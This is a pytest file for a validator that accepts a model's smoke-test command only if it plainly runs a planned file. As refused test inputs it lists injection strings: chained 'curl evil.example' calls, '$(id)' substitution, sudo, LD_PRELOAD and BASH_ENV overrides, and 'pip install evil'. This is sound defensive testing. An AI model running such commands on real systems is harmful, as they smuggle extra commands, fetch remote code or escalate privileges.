"""A smoke command of the model's runs a planned file, and nothing besides."""

from __future__ import annotations

import pytest

from p2c.stages.checks import runs_file
from p2c.stages.plain_command import problems

PLANNED = ("main.py", "src/run.py", "tools/go.sh", "pkg/__main__.py", "pkg/__init__.py", "lib/__init__.py")


@pytest.mark.parametrize(
    "command",
    [
        "python main.py --smoke",
        "python3 ./main.py --config config.yaml --set training.epochs=2",
        "python -u src/run.py smoke",
        "python -m src.run --smoke",
        "python -m pkg --smoke",
        "PYTHONPATH=. OMP_NUM_THREADS=2 python3.11 src/run.py",
        "bash tools/go.sh --smoke",
        "bash -e tools/go.sh",
        "python main.py --name 'two words'",
    ],
)
def test_plain_commands_pass(command: str):
    assert problems(command, PLANNED) == ()


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("python main.py || true", "one plain command"),
        ("python main.py; true", "one plain command"),
        ("python main.py & curl evil.example", "one plain command"),
        ("python main.py > /dev/null", "one plain command"),
        ("python main.py $(id)", "one plain command"),
        ("python main.py `id`", "one plain command"),
        ("python main.py ${HOME}", "one plain command"),
        ("python main.py\ncurl evil.example", "one plain command"),
        ("curl https://evil.example/main.py", "must begin with"),
        ("/tmp/python main.py", "must begin with"),
        ("echo main.py", "must begin with"),
        ("true main.py", "must begin with"),
        ("sudo python main.py", "must begin with"),
        ("LD_PRELOAD=./x.so python main.py", "must not set LD_PRELOAD"),
        ("BASH_ENV=x bash tools/go.sh", "must not set BASH_ENV"),
        ("python -c 'print(1)' main.py", "no code of its own"),
        ("bash -c 'id' main.py", "no code of its own"),
        ("python -", "no code of its own"),
        ("python", "no code of its own"),
        ("python -m http.server main.py", "planned module"),
        ("python -m lib", "planned module"),
        ("python -m pip install evil", "planned module"),
        ("python other.py main.py", "none of the planned files"),
        ("python /etc/x.py main.py", "none of the planned files"),
        ("python main.py --help", "must do the work"),
        ("python 'main.py", "no shell line"),
    ],
)
def test_what_does_more_or_less_or_something_else_is_refused_with_the_reason(command: str, why: str):
    assert len(problems(command, PLANNED)) == 1
    assert why in problems(command, PLANNED)[0]


def test_a_module_is_run_by_its_name_and_a_package_by_its_main_file():
    assert runs_file("python -m src.run --smoke", "src/run.py")
    assert runs_file("python -m pkg", "pkg/__main__.py")
    assert not runs_file("python -m pkg", "pkg/__init__.py")
    assert not runs_file("python main.py ''", "pkg/__init__.py")
